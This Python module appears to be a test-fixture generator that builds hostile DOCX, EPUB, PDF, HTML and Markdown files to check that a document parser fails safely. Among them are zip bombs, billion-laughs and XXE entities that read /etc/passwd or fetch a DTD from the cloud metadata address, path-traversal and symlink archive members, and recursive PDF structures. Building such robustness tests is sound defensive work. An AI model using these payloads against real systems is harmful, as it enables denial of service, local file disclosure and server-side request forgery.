"""Documents that were made to loop, to fill the memory or to reach outside, each built when it is asked for."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

PROSE = "The ferry to Sallow Point was late again on Monday, and nobody on the quay could say why it had been so slow. "
WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>'
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Default Extension="rels" ContentType='
    '"application/vnd.openxmlformats-package.relationships+xml"/></Types>'
)
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas'
    '.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{}"/></Relationships>'
)
CONTAINER = '<container><rootfiles><rootfile full-path="book.opf"/></rootfiles></container>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a0 "ha ha ha ">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)) + "]>"
LONG_ENTITY = f'<!DOCTYPE x [<!ENTITY a "{"ha " * 30_000}">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a11 SYSTEM "file:///etc/passwd"><!ENTITY % far SYSTEM "http://169.254.169.254/x.dtd">%far;]>'

Members = Mapping[str | zipfile.ZipInfo, str | bytes]


def zipped(members: Members, *, small: bool = True) -> bytes:
    """Put an archive together; one that is not small is above suspicion for what it weighs."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED if small else zipfile.ZIP_STORED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return packed.getvalue()


def word(
    body: str, *, before: str = "", target: str = "word/document.xml", extra: Members | None = None, small: bool = True
) -> bytes:
    """Pack a Word file whose body is this markup."""
    parts: Members = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": RELATIONS.format(target),
        "word/document.xml": before + WORD.format(body),
    }
    return zipped({**parts, **(extra or {})}, small=small)


def paragraph(text: str) -> str:
    """A paragraph of a Word file."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def book(
    chapter: str | bytes, *, href: str = "one.xhtml", copies: int = 1, extra: Members | None = None, small: bool = True
) -> bytes:
    """Pack an EPUB of one chapter, which is listed several times."""
    items = "".join(f'<item id="c{n}" href="{href}" media-type="application/xhtml+xml"/>' for n in range(copies))
    spine = "".join(f'<itemref idref="c{n}"/>' for n in range(copies))
    package = f"<package><metadata/><manifest>{items}</manifest><spine>{spine}</spine></package>"
    parts: Members = {"META-INF/container.xml": CONTAINER, "book.opf": package, href: chapter}
    return zipped({**parts, **(extra or {})}, small=small)


def pdf(*objects: str | bytes) -> bytes:
    """Write a PDF of numbered objects by hand, the first of which is its catalogue; pdfium forgives the missing references."""
    parts = [each if isinstance(each, bytes) else each.encode() for each in objects]
    body = b"\n".join(b"%d 0 obj%sendobj" % (number, each) for number, each in enumerate(parts, start=1))
    return b"%PDF-1.5\n" + body + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def stream(data: bytes, words: str = "", *, packed: int = 0) -> bytes:
    """A stream object, packed so many times over."""
    for _ in range(packed):
        data = zlib.compress(data, 9)
    filters = f"/Filter[{'/FlateDecode ' * packed}]" if packed else ""
    return f"<<{words}{filters}/Length {len(data)}>>stream\n".encode() + data + b"\nendstream "


def one_page(contents: bytes, *more: str | bytes, resources: str = "/Font<</F1 5 0 R>>") -> bytes:
    """A PDF of one page with these contents as object 4, its font as object 5, and more from object 6 on."""
    return pdf(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<<{resources}>>>>",
        contents,
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    )


def listed_often(count: int) -> bytes:
    """An archive whose list of members is nearly all of it."""
    entry = b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    least = min(count, 0xFFFF)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, least, least, len(entry) * count, 4, 0)
    return b"PK\x03\x04" + entry * count + end


def overlapping(count: int) -> bytes:
    """A Word file of many members that all share the same packed bytes."""
    packed = bytearray(word("", extra={"word/a.bin": bytes(5_000_000)}))
    start = packed.rindex(b"PK\x01\x02")
    end = packed.rindex(b"PK\x05\x06")
    entry, rest = bytes(packed[start:end]), bytes(packed[end:])
    at = struct.unpack_from("<I", rest, 16)[0]
    many = b"".join(entry[:46] + f"word/{n:05}"[:10].encode() + entry[56:] for n in range(count))
    size = (start - at) + len(many)
    return bytes(packed[:start]) + many + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count + 3, count + 3, size, at, 0)


def lying(data: bytes, declared: int) -> bytes:
    """The archive with another unpacked size declared for its last member."""
    changed = bytearray(data)
    struct.pack_into("<I", changed, changed.rindex(b"PK\x01\x02") + 24, declared)
    return bytes(changed)


def locked(data: bytes) -> bytes:
    """The archive with every member marked as encrypted."""
    changed, at = bytearray(data), data.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def linked(target: str) -> zipfile.ZipInfo:
    """The name of a member that is a symbolic link."""
    info = zipfile.ZipInfo(target)
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return info


def page(body: str, head: str = "") -> bytes:
    """A page with an article below what is hostile in it."""
    return f"<!doctype html><html><head><title>x</title>{head}</head><body>{body}<p>{PROSE * 5}</p></body></html>".encode()


def nested_arrays() -> bytes:
    """A PDF whose page holds an array in an array, and so on."""
    return one_page(stream(b""), "[" * 100_000 + "]" * 100_000, resources="/X 6 0 R")


CLOSED = f"<p>{PROSE}</p>"
HELLO = b"BT /F1 12 Tf 50 700 Td (Hello ferry) Tj ET"
ITSELF = stream(b"/X Do /X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
TREE = "<</Type/Pages/Kids[{}]/Count {}>>"
LAUGHING = "<html><body><p>&a11;</p></body></html>"

# Whatever is in them, reading ends within the limits: as an article without anything from outside, or as a SourceError.
BOMBS: dict[str, Callable[[], bytes]] = {
    "ratio.docx": lambda: word("", extra={"word/media/a.bin": bytes(190_000_000)}),
    "markup.docx": lambda: word("<w:p/>" * 8_000_000),
    "paragraphs.docx": lambda: word(paragraph("x") * 600_000, small=False),
    "empty.docx": lambda: word("<w:p/>" * 7_000_000, small=False),
    "attribute.docx": lambda: word(f'<w:p w:x="{"x" * 45_000_000}"/>' + paragraph(PROSE), small=False),
    "cells.docx": lambda: word("<w:tbl><w:tr>" + f"<w:tc>{paragraph('x')}</w:tc>" * 500_000 + "</w:tr></w:tbl>", small=False),
    "attributes.docx": lambda: word("<w:p " + " ".join(f'a{n}="1"' for n in range(300_000)) + "/>" + paragraph(PROSE)),
    "laughs.docx": lambda: word(paragraph("&a11;"), before=LAUGHS),
    "quadratic.docx": lambda: word(paragraph("&a;" * 30_000), before=LONG_ENTITY),
    "outside.docx": lambda: word(paragraph("&a11;" + PROSE), before=OUTSIDE),
    "deep.docx": lambda: word("<w:sdt><w:sdtContent>" * 100_000 + paragraph(PROSE), small=False),
    "tables.docx": lambda: word("<w:tbl><w:tr><w:tc>" * 80 + paragraph(PROSE) + "</w:tc></w:tr></w:tbl>" * 80),
    "climbing.docx": lambda: word(paragraph(PROSE), target="../../../../etc/passwd"),
    "names.docx": lambda: word(paragraph(PROSE), extra={"../../../evil.xml": "x", "/etc/evil.xml": "x", "C:\\evil.xml": "x"}),
    "link.docx": lambda: word(paragraph(PROSE), target="word/link.xml", extra={linked("word/link.xml"): "/etc/passwd"}),
    "locked.docx": lambda: locked(word(paragraph(PROSE))),
    "lying.docx": lambda: lying(zipped({"word/document.xml": bytes(60_000_000)}), 10),
    "boasting.docx": lambda: lying(word(paragraph(PROSE)), 0xFFFF_FFF0),
    "listed.docx": lambda: listed_often(1_000_000),
    "members.docx": lambda: word(paragraph(PROSE), extra={f"word/{n}.xml": "" for n in range(30_000)}),
    "overlapping.docx": lambda: overlapping(40),
    "nested.docx": lambda: zipped({"word/document.xml": word(paragraph(PROSE), extra={"a.docx": word("")})}),
    "cut.docx": lambda: word(paragraph(PROSE))[:-40],
    "laughs.epub": lambda: book(LAUGHS + LAUGHING),
    "quadratic.epub": lambda: book(LONG_ENTITY + f"<html><body><p>{'&a;' * 30_000}</p></body></html>"),
    "outside.epub": lambda: book(OUTSIDE + LAUGHING),
    "climbing.epub": lambda: book(CLOSED, href="../../../../../../etc/passwd"),
    "absolute.epub": lambda: book(CLOSED, href="/etc/passwd"),
    "hidden.epub": lambda: book(b"<p>x</p>" * 10_000_000, href="one.bin", small=False),
    "paragraphs.epub": lambda: book(f"<html><body>{'<p>x</p>' * 5_000_000}</body></html>", small=False),
    "copies.epub": lambda: book(CLOSED, copies=150_000),
    "deep.epub": lambda: book("<html><body>" + "<div>" * 300_000 + CLOSED, small=False),
    "spans.epub": lambda: book("<html><body>" + "<span>x" * 300_000 + CLOSED, small=False),
    "chapters.epub": lambda: book(CLOSED, extra={f"c{n}.xhtml": "" for n in range(25_000)}),
    "itself.epub": lambda: book(
        CLOSED, extra={"META-INF/container.xml": CONTAINER.replace("book.opf", "META-INF/container.xml")}
    ),
    "circle.pdf": lambda: pdf("<</Type/Catalog/Pages 2 0 R>>", TREE.format("3 0 R 2 0 R", 9), TREE.format("2 0 R", 9)),
    "count.pdf": lambda: pdf("<</Type/Catalog/Pages 2 0 R>>", TREE.format("3 0 R", 2_000_000_000), "<</Type/Page/Parent 2 0 R>>"),
    "pages.pdf": lambda: pdf("<</Type/Catalog/Pages 2 0 R>>", TREE.format("3 0 R " * 2900, 2900), "<</Type/Page/Parent 2 0 R>>"),
    "tall.pdf": lambda: pdf("<</Type/Catalog/Pages 2 0 R>>", *(TREE.format(f"{n} 0 R", 1) for n in range(3, 30_000))),
    "flate.pdf": lambda: one_page(stream(HELLO + b" " * 200_000_000, packed=1)),
    "flates.pdf": lambda: one_page(stream(HELLO + b" " * 200_000_000, packed=3)),
    "operators.pdf": lambda: one_page(stream(b"BT /F1 1 Tf " + b"(ferry)Tj " * 6_000_000 + b"ET", packed=1)),
    "heavy-pages.pdf": lambda: one_page(stream(b"BT /F1 1 Tf " + b"(ferry)Tj " * 100_000 + b"ET", packed=1)).replace(
        b"Kids[3 0 R]/Count 1", b"Kids[" + b"3 0 R " * 2900 + b"]/Count 2900"
    ),
    "form.pdf": lambda: one_page(stream(HELLO + b" /X Do"), ITSELF, resources="/Font<</F1 5 0 R>>/XObject<</X 6 0 R>>"),
    "forms.pdf": lambda: one_page(
        stream(b"/X6 Do"),
        *(
            stream(
                f"/X{n + 1} Do ".encode() * 10,
                f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X{n + 1} {n + 1} 0 R>>>>",
            )
            for n in range(6, 20)
        ),
        resources="/XObject<</X6 6 0 R>>",
    ),
    "objects.pdf": lambda: pdf(
        "<</Type/Catalog/Pages 2 0 R>>", stream(b"2 0 <</Type/Pages>>", "/Type/ObjStm/N 1/First 4/Extends 2 0 R")
    ),
    "length.pdf": lambda: pdf("<</Type/Catalog/Pages 2 0 R>>", b"<</Length 2 0 R>>stream\nx\nendstream"),
    "arrays.pdf": nested_arrays,
    "xref.pdf": lambda: (
        b"%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Prev 9/Size 2000000000>>\nstartxref\n9\n%%EOF"
    ),
    "jbig2.pdf": lambda: one_page(
        stream(b"/X Do"),
        stream(
            struct.pack(">IBBBI", 0, 0x30, 0, 1, 19) + struct.pack(">IIIIBH", 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0, 0),
            "/Type/XObject/Subtype/Image/Width 2147483647/Height 2147483647/BitsPerComponent 1/ColorSpace/DeviceGray"
            "/Filter/JBIG2Decode",
        ),
        resources="/XObject<</X 6 0 R>>",
    ),
    "predictor.pdf": lambda: one_page(
        stream(zlib.compress(bytes(9_000_000)), "/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483640/Colors 32>>")
    ),
    "attributes.html": lambda: page("<p " + " ".join(f"a{n}=1" for n in range(200_000)) + ">"),
    "paragraphs.html": lambda: page("<p>a b c d e f g h i j</p>" * 700_000),
    "tags.html": lambda: page("<div>" * 1_000_000),
    "bold.html": lambda: page("<b>" * 300_000),
    "tables.html": lambda: page("<table><tr><td>x</td><td>" * 60),
    "comments.html": lambda: page("<!--" * 1_000_000),
    "angles.html": lambda: page("<" * 3_000_000),
    "metas.html": lambda: page("", "<meta name=robots content=" * 300_000),
    "json.html": lambda: page("", f"<script type='application/ld+json'>{'[' * 500_000}</script>"),
    "blank.html": lambda: page(" \n" * 5_000_000),
    "titles.html": lambda: page("", "<title" * 500_000),
    "numbers.html": lambda: page(f"<p>{'2024-01-0' * 300_000}</p>"),
    "aliases.md": lambda: (
        b"---\n" + b"".join(b"a%d: &a%d [%s]\n" % (n, n, b"*a%d," % (n - 1) * 9) for n in range(1, 60)) + b"---\nText"
    ),
    "front.md": lambda: b"---\n" + b"{a: " * 4_000 + b"\n---\nText",
    "bytes.txt": lambda: bytes(range(1, 256)) * 80_000,
    "wide.txt": lambda: b"\xff\xfe" + b"\x00\xd8" * 5_000_000,
}
